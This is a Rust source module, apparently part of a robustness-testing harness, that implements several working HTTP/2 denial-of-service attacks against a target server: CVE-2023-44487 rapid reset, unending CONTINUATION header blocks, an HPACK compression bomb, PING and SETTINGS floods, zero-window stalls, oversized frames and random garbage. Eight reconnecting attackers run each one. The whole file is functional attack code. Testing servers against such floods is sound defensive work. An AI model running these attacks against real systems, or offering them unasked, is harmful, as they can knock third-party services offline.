//! Attacks by HTTP/2. If an agent has enough and ends the connection, the attacker comes again.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, REQUEST, RST_STREAM, SETTINGS, connect, frame,
};
use crate::{Attack, Front};

const ATTACKERS: usize = 8;
const CANCEL: &[u8] = &[0, 0, 0, 8];
/// The pause before a refused thing is tried again, and between looks whether it is still connected.
const PAUSE: Duration = Duration::from_millis(20);

/// The bytes for the round with this number, counted from a connection's beginning.
type Says = fn(u32) -> Vec<u8>;

fn attack(front: Front, settings: &'static [u8], says: Says) -> Attack {
    (0..ATTACKERS)
        .map(|_| async move {
            loop {
                let mut connection = connect(front.http2, settings).await?;
                for round in 0.. {
                    let said = says(round);
                    if said.is_empty() {
                        sleep(PAUSE).await;
                    } else if connection.write_all(&said).await.is_err() {
                        break;
                    }
                }
                sleep(PAUSE).await;
            }
        })
        .collect()
}

/// The odd identifiers that a client may use, this many in each round.
fn streams(round: u32, many: u32) -> impl Iterator<Item = u32> {
    (round * many..(round + 1) * many).map(|index| 2 * index + 1)
}

/// CVE-2023-44487: streams that are reset as soon as they are open.
pub(crate) fn rapid_resets(front: Front) -> Attack {
    attack(front, &[], |round| {
        let opened_and_reset = |stream| {
            let opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
            [opened, frame(RST_STREAM, 0, stream, CANCEL)].concat()
        };
        streams(round, 100).flat_map(opened_and_reset).collect()
    })
}

/// A header block that does not end.
pub(crate) fn continuations(front: Front) -> Attack {
    attack(front, &[], |round| match round {
        0 => frame(HEADERS, END_STREAM, 1, REQUEST),
        _ => {
            let field = [b"\x00\x01x\x7f\xe1\x06".as_slice(), &[b'y'; 992]].concat();
            frame(CONTINUATION, 0, 1, &field)
        }
    })
}

/// A large field that is put in the table once and referred to thousands of times.
pub(crate) fn hpack_bomb(front: Front) -> Attack {
    attack(front, &[], |round| {
        let stored = [b"\x40\x01x\x7f\xa1\x1e".as_slice(), &[b'y'; 4000]].concat();
        let named = vec![0xbe; 12_000];
        let block = [REQUEST, &stored, &named].concat();
        let streams = streams(round, 1);
        streams.flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).collect()
    })
}

pub(crate) fn pings(front: Front) -> Attack {
    attack(front, &[], |_| frame(PING, 0, 0, &[7; 8]).repeat(100))
}

pub(crate) fn settings(front: Front) -> Attack {
    // SETTINGS_HEADER_TABLE_SIZE = 4096
    attack(front, &[], |_| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]).repeat(100))
}

/// Large answers are requested, and no byte of them is taken.
pub(crate) fn zero_windows(front: Front) -> Attack {
    // SETTINGS_INITIAL_WINDOW_SIZE = 0
    attack(front, &[0, 4, 0, 0, 0, 0], |round| match round {
        0 => {
            let block = [REQUEST, b"\x00\x05large\x01y"].concat();
            streams(0, 100)
                .flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block))
                .collect()
        }
        _ => Vec::new(),
    })
}

/// Frames that claim to be as long as a frame can be.
pub(crate) fn huge_frames(front: Front) -> Attack {
    attack(front, &[], |round| match round {
        0 => b"\xff\xff\xff\x00\x00\x00\x00\x00\x01".to_vec(),
        _ => vec![b'x'; 16 * 1024],
    })
}

/// Meaningless bytes, the same ones each time.
pub(crate) fn garbage(front: Front) -> Attack {
    attack(front, &[], |round| {
        let mut state = u64::from(round) * 2 + 1;
        let next = |_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()
        };
        (0..128).flat_map(next).collect()
    })
}
